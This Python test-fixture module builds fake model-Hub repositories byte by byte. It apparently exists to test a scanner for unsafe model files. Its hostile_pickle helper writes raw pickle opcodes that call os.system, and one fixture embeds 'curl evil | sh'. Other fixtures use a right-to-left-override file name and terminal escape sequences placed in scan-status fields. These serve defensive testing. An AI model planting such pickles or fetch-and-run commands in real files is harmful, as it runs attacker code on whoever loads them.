"""Repos served by the fake Hub in tests.  Every byte is built by hand here: nothing is loaded,
imported or unpickled (the hostile pickles are raw opcode strings).

Big files are virtual sparse FileSpecs: `big_torch_repo()` declares a 6 GiB PyTorch zip
checkpoint (zip64, STORED members, correct CRC-32 computed arithmetically for the zero runs) and a
2 GiB safetensors file, yet holds only a few KB of real bytes.
"""

from __future__ import annotations

import json
import os
import struct
import zlib

from fake_hub import FileSpec, Repo

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.normpath(os.path.join(HERE, "..", ".."))
GiB = 1 << 30

TEST_PAGE_SIZE = 7  # small, so every multi-entry tree listing paginates
# hf_good: may see org/private and download from org/gated; hf_other: valid, no grants.
TOKENS = {
    "hf_good": {"approved": {"org/gated"}, "private": {"org/private"}},
    "hf_other": {},
}

# ---------------------------------------------------------------------------------------------
# CRC-32 of long zero runs without touching the bytes (GF(2) polynomial arithmetic, reflected).
_POLY = 0xEDB88320


def _multmodp(a: int, b: int) -> int:
    m, p = 1 << 31, 0
    while True:
        if a & m:
            p ^= b
            if (a & (m - 1)) == 0:
                return p
        m >>= 1
        b = (b >> 1) ^ _POLY if b & 1 else b >> 1


_X2N = [1 << 30]  # x^(2^k) mod P
for _ in range(31):
    _X2N.append(_multmodp(_X2N[-1], _X2N[-1]))


def _x8nmodp(n: int) -> int:
    """x^(8n) mod P."""
    p, k = 1 << 31, 3
    while n:
        if n & 1:
            p = _multmodp(_X2N[k & 31], p)
        n >>= 1
        k += 1
    return p


def crc32_zeros(n: int, crc: int = 0) -> int:
    """zlib.crc32(b"\\0" * n, crc) computed in O(log n)."""
    if n <= 0:
        return crc
    return _multmodp(_x8nmodp(n), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def crc32_sparse(size: int, segments) -> int:
    crc, pos = 0, 0
    for off, b in sorted(segments):
        crc = crc32_zeros(off - pos, crc)
        crc = zlib.crc32(b, crc)
        pos = off + len(b)
    return crc32_zeros(size - pos, crc)


# ---------------------------------------------------------------------------------------------
# Zip writer for sparse members (STORED, zip64 where needed, 64-byte aligned data like torch.save)


class SparseZip:
    """Lay out a zip whose members are bytes or ("zeros", n); returns a sparse FileSpec."""

    def __init__(self, align: int = 64):
        self.align = align
        self.segments: list[tuple[int, bytes]] = []
        self.pos = 0
        self.central: list[bytes] = []

    def _emit(self, b: bytes) -> None:
        if b:
            self.segments.append((self.pos, b))
        self.pos += len(b)

    def add(self, name: str, data) -> None:
        if isinstance(data, tuple) and data[0] == "zeros":
            size, segs = data[1], []
        else:
            size, segs = len(data), [(0, bytes(data))]
        crc = crc32_sparse(size, segs)
        nm = name.encode()
        big = size >= 0xFFFFFFFF
        offset = self.pos
        extra = b""
        if big:
            extra += struct.pack("<HHQQ", 1, 16, size, size)
        # pad the local extra field (id 0x4246 'FB', as torch.save) so data starts aligned
        hdr_len = 30 + len(nm) + len(extra)
        pad = (-(offset + hdr_len + 4)) % self.align
        extra += struct.pack("<HH", 0x4246, pad) + b"Z" * pad
        s32 = 0xFFFFFFFF if big else size
        version = 45 if big else 20
        self._emit(struct.pack("<IHHHHHIIIHH", 0x04034B50, version, 0, 0, 0, 0x21, crc, s32, s32,
                               len(nm), len(extra)) + nm + extra)
        data_at = self.pos
        for o, b in segs:
            self.segments.append((data_at + o, b))
        self.pos += size
        # central directory entry
        z64 = b""
        if big:
            z64 += struct.pack("<QQ", size, size)
        off32 = offset
        if offset >= 0xFFFFFFFF:
            z64 += struct.pack("<Q", offset)
            off32 = 0xFFFFFFFF
        cextra = struct.pack("<HH", 1, len(z64)) + z64 if z64 else b""
        cver = 45 if cextra else 20
        self.central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, cver, 0, 0, 0,
                                        0x21, crc, s32, s32, len(nm), len(cextra), 0, 0, 0,
                                        0o100644 << 16, off32) + nm + cextra)

    def finish(self) -> FileSpec:
        cd_off = self.pos
        cd = b"".join(self.central)
        self._emit(cd)
        n = len(self.central)
        z64_off = self.pos
        self._emit(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, n, n, len(cd), cd_off))
        self._emit(struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1))
        self._emit(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(n, 0xFFFF), min(n, 0xFFFF),
                               len(cd), min(cd_off, 0xFFFFFFFF), 0))
        return FileSpec.sparse(self.pos, self.segments)


# ---------------------------------------------------------------------------------------------
# Pickles from raw opcodes (protocol 2)


def _binunicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def _int(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if -(1 << 31) <= n < (1 << 31):
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _tuple(items: list[bytes]) -> bytes:
    return b"(" + b"".join(items) + b"t"


def torch_state_dict_pickle(tensors) -> bytes:
    """A torch.save-style data.pkl: OrderedDict name -> _rebuild_tensor_v2(storage, ...).

    tensors: list of (name, storage_key, numel, shape)."""
    out = [b"\x80\x02", b"ccollections\nOrderedDict\nq\x00", b")Rq\x01", b"("]
    for name, key, numel, shape in tensors:
        stride, acc = [], 1
        for d in reversed(shape):
            stride.insert(0, acc)
            acc *= d
        storage = _tuple([_binunicode("storage"), b"ctorch\nFloatStorage\n", _binunicode(key),
                          _binunicode("cpu"), _int(numel)]) + b"Q"
        args = _tuple([storage, _int(0), _tuple([_int(d) for d in shape]),
                       _tuple([_int(s) for s in stride]), b"\x89",
                       b"ccollections\nOrderedDict\n)R"])
        out.append(_binunicode(name) + b"ctorch._utils\n_rebuild_tensor_v2\n" + args + b"R")
    out.append(b"u.")
    return b"".join(out)


def hostile_pickle(cmd: str = "echo pwned") -> bytes:
    """GLOBAL os.system, a string, TUPLE1, REDUCE, STOP: runs `cmd` if ever unpickled."""
    return b"\x80\x02cos\nsystem\nq\x00" + _binunicode(cmd) + b"\x85q\x01Rq\x02."


def benign_pickle(i: int = 0) -> bytes:
    """{'step': i, 'name': 'cfg'} from raw opcodes."""
    return (b"\x80\x02}q\x00(" + _binunicode("step") + _int(i) + _binunicode("name")
            + _binunicode(f"cfg{i}") + b"u.")


def npy_bytes(values) -> bytes:
    """A little-endian float32 1-D .npy (format 1.0), written by hand."""
    hdr = "{'descr': '<f4', 'fortran_order': False, 'shape': (%d,), }" % len(values)
    hdr_b = hdr.encode()
    total = 10 + len(hdr_b) + 1
    hdr_b += b" " * ((-total) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr_b)) + hdr_b + struct.pack(
        "<%df" % len(values), *values)


def safetensors_spec(tensors, sparse: bool = True) -> FileSpec:
    """tensors: list of (name, dtype, shape); data is zeros (sparse unless sparse=False)."""
    width = {"F32": 4, "F16": 2, "BF16": 2, "I64": 8, "U8": 1}
    header = {"__metadata__": {"format": "pt"}}
    off = 0
    for name, dtype, shape in tensors:
        n = width[dtype]
        for d in shape:
            n *= d
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [off, off + n]}
        off += n
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((-len(h)) % 8)
    head = struct.pack("<Q", len(h)) + h
    if not sparse:
        return FileSpec(data=head + b"\0" * off)
    return FileSpec.sparse(len(head) + off, [(0, head)])


def _json(obj) -> FileSpec:
    return FileSpec(data=json.dumps(obj, indent=2).encode() + b"\n")


GITATTRIBUTES = FileSpec(data=b"*.bin filter=lfs diff=lfs merge=lfs -text\n"
                         b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n"
                         b"*.h5 filter=lfs diff=lfs merge=lfs -text\n")

# ---------------------------------------------------------------------------------------------
# Repos

BIG_TORCH_TENSORS = [  # name, storage key, numel, shape  (float32)
    ("model.embed.weight", "0", 294912 * 4096, (294912, 4096)),  # 4.5 GiB: zip64 sizes
    ("model.layers.0.weight", "1", 98304 * 4096, (98304, 4096)),  # 1.5 GiB
    ("model.layers.0.bias", "2", 4096, (4096,)),
]


def big_torch_checkpoint() -> FileSpec:
    z = SparseZip()
    z.add("archive/data.pkl", torch_state_dict_pickle(BIG_TORCH_TENSORS))
    z.add("archive/byteorder", b"little")
    for _name, key, numel, _shape in BIG_TORCH_TENSORS:
        z.add(f"archive/data/{key}", ("zeros", numel * 4))
    z.add("archive/version", b"3\n")
    z.add("archive/.data/serialization_id", b"1234567890123456789012345678901234567890")
    return z.finish()


def big_safetensors() -> FileSpec:
    return safetensors_spec([("lm_head.weight", "F32", (131072, 4096)),  # 2 GiB
                             ("model.norm.weight", "F32", (4096,))])


TORCH_IMPORTS = [
    {"module": "collections", "name": "OrderedDict", "safety": "innocuous"},
    {"module": "torch", "name": "FloatStorage", "safety": "innocuous"},
    {"module": "torch._utils", "name": "_rebuild_tensor_v2", "safety": "innocuous"},
]


def big_torch_repo() -> Repo:
    ckpt = big_torch_checkpoint()
    ckpt.pickle_imports = TORCH_IMPORTS
    files = {
        "pytorch_model.bin": ckpt,
        "model.safetensors": big_safetensors(),
        "config.json": _json({"architectures": ["LlamaForCausalLM"], "hidden_size": 4096,
                              "model_type": "llama", "torch_dtype": "float32"}),
        "tokenizer.json": _json({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0, "b": 1},
                                                              "merges": []}}),
        "README.md": FileSpec(data=b"---\nlicense: mit\n---\n# big-torch\nA test checkpoint.\n"),
        ".gitattributes": GITATTRIBUTES,
        "extra/payload.pkl": FileSpec(data=hostile_pickle(),
                                      pickle_imports=[{"module": "os", "name": "system",
                                                       "safety": "dangerous"}]),
    }
    return Repo("org/big-torch", revisions={"main": files},
                security_status={"scansDone": True,
                                 "filesWithIssues": [{"path": "extra/payload.pkl", "level": "unsafe"}]})


HOSTILE_H5 = "samples/keras/hostile/lambda_os_system.h5"  # golden: critical os.system + high lambda


def h5_repo() -> Repo:
    with open(os.path.join(ROOT, HOSTILE_H5), "rb") as f:
        h5 = f.read()
    return Repo("org/keras-h5", revisions={"main": {
        "model.h5": FileSpec(data=h5, lfs=True),
        "weights.safetensors": safetensors_spec([("dense.kernel", "F32", (16, 4)),
                                                 ("dense.bias", "F32", (4,))], sparse=False),
        "config.json": _json({"model_type": "keras"}),
        ".gitattributes": GITATTRIBUTES,
    }})


MANY_FILES_HOSTILE = "deep/a/b/c/evil.pkl"


def many_files_repo(n: int = 60) -> Repo:
    files = {}
    for i in range(n - 1):
        d = f"shard_{i % 4}/part_{i % 3}"
        if i % 10 == 3:
            files[f"{d}/state_{i}.pkl"] = FileSpec(data=benign_pickle(i))
        elif i % 10 == 7:
            files[f"{d}/array_{i}.npy"] = FileSpec(data=npy_bytes([float(i), 1.5, -2.0]))
        else:
            files[f"{d}/notes_{i}.txt"] = FileSpec(data=f"file {i}\n".encode() * (i + 1))
    files[MANY_FILES_HOSTILE] = FileSpec(data=hostile_pickle("id"), scan_status="unsafe",
                                         pickle_imports=[{"module": "os", "name": "system",
                                                          "safety": "dangerous"}])
    files["shard_0/part_0/notes_0.txt"].scan_status = "queued"
    files["shard_1/part_1/notes_1.txt"].scan_status = "unscanned"
    return Repo("org/many-files", revisions={"main": files},
                security_status={"scansDone": True,
                                 "filesWithIssues": [{"path": MANY_FILES_HOSTILE, "level": "unsafe"}]})


def _small_model_files(tag: str) -> dict:
    return {
        "config.json": _json({"model_type": "tiny", "tag": tag}),
        "model.safetensors": safetensors_spec([("w", "F32", (8, 8))], sparse=False),
    }


def gated_repo() -> Repo:
    return Repo("org/gated", revisions={"main": _small_model_files("gated")}, gated="manual")


def private_repo() -> Repo:
    return Repo("org/private", revisions={"main": _small_model_files("private")}, private=True)


def disabled_repo() -> Repo:
    return Repo("org/disabled", revisions={"main": _small_model_files("disabled")}, disabled=True)


def dataset_repo() -> Repo:
    return Repo("org/data", "dataset", revisions={"main": {
        "README.md": FileSpec(data=b"# a dataset\n"),
        "data/train.npy": FileSpec(data=npy_bytes([1.0, 2.0, 3.0])),
        "data/cache.pkl": FileSpec(data=benign_pickle(7)),
        "data/notes with space \u00e9.txt": FileSpec(data="caf\u00e9\n".encode()),
    }})


def space_repo() -> Repo:
    return Repo("org/demo-space", "space", revisions={"main": {
        "app.py": FileSpec(data=b"import gradio as gr\n"),
        "requirements.txt": FileSpec(data=b"gradio\n"),
        "weights/model.pkl": FileSpec(data=hostile_pickle("touch /tmp/x")),
    }})


def revisions_repo() -> Repo:
    """main is clean; tag v1.0 has older files; refs/pr/1 adds a hostile pickle."""
    main = _small_model_files("main")
    pr = dict(main)
    pr["pr_payload.pkl"] = FileSpec(data=hostile_pickle("curl evil | sh"))
    v1 = {"config.json": _json({"model_type": "tiny", "tag": "v1.0"}),
          "old_weights.pkl": FileSpec(data=benign_pickle(1))}
    return Repo("org/revisions", revisions={"main": main, "dev": dict(main), "refs/pr/1": pr},
                tags={"v1.0": v1, "latest": "main"})


def renamed_repo() -> Repo:
    return Repo("org/new-name", revisions={"main": _small_model_files("renamed")},
                renamed_from="org/old-name")


def remote_code_repo() -> Repo:
    """A trust_remote_code model: config.json's auto_map names modeling_demo.py (in the repo)
    and configuration_demo.py (not in it); the same layout again under sub/."""
    py = FileSpec(data=b"class DemoModel:\n    pass\n")
    config = _json({"model_type": "demo", "auto_map": {
        "AutoConfig": "configuration_demo.DemoConfig",
        "AutoModel": "modeling_demo.DemoModel"}})
    return Repo("org/remote-code", revisions={"main": {
        "config.json": config,
        "modeling_demo.py": py,
        "sub/config.json": config,
        "sub/configuration_demo.py": py,
        ".gitattributes": GITATTRIBUTES,
    }})


BIDI_NAME = "payload\u202egnp.pkl"  # shown reversed ("payloadlkp.png") unless escaped


def escapes_repo() -> Repo:
    """A file name with a right-to-left override, and the Hub's own scan status carrying
    terminal control sequences."""
    return Repo("org/escapes", revisions={"main": {
        BIDI_NAME: FileSpec(data=hostile_pickle("echo hidden")),
    }}, security_status={"scansDone": True, "filesWithIssues": [
        {"path": "\x1b[2J\x1b[1A" + BIDI_NAME, "level": "\x1b[32msafe\x1b[0m"}]})


def control_names_repo() -> Repo:
    """A file name with control characters: the listing is refused (an error, never clean)."""
    return Repo("org/control-names", revisions={"main": {
        "\x1b[2J\x1b[1Apayload\r.pkl": FileSpec(data=hostile_pickle("echo hidden")),
    }})


def all_repos() -> list[Repo]:
    return [big_torch_repo(), h5_repo(), many_files_repo(), gated_repo(), private_repo(),
            disabled_repo(), dataset_repo(), space_repo(), revisions_repo(), renamed_repo(),
            remote_code_repo(), escapes_repo(), control_names_repo()]
